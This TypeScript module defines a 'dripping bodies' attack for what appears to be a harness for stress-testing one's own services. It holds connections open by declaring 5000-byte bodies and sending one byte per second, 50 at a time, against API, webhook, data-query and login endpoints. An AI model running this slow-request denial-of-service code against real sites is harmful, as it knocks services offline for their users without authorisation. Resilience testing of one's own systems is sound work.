import type { Attack } from "./attack.ts";
import { holdConnection, rawRequest } from "./hold-connection.ts";
import { repeat } from "./repeat.ts";

/** Send bodies a byte a second. */
export const drippingBodies: Attack = {
  name: "dripping bodies",
  addresses: 2,
  run: (attacker) => {
    const { site, lake, studio, readToken } = attacker.target;
    const authorization = `Bearer ${readToken}`;
    const json = { "content-type": "application/json", "content-length": 5000 };
    const form = { ...json, "content-type": "application/x-www-form-urlencoded" };
    const starts: [origin: string, line: string, headers: Record<string, string | number>][] = [
      [site, "POST /api/riddle/check-text", json],
      [lake, "POST /v2025-02-19/data/query/production", { ...json, authorization }],
      [site, "POST /webhooks/sanity", json],
      [lake, "POST /login", { ...form, origin: studio }],
      [site, "POST /", json],
    ];
    let count = 0;
    return repeat(attacker, { atOnce: 50, pauseMs: 500 }, async () => {
      const [origin, line, headers] = starts[count++ % starts.length] ?? [site, "POST /", json];
      await holdConnection(attacker, origin, {
        start: rawRequest(origin, line, headers),
        drip: "{",
        everyMs: 1000,
      });
    });
  },
};
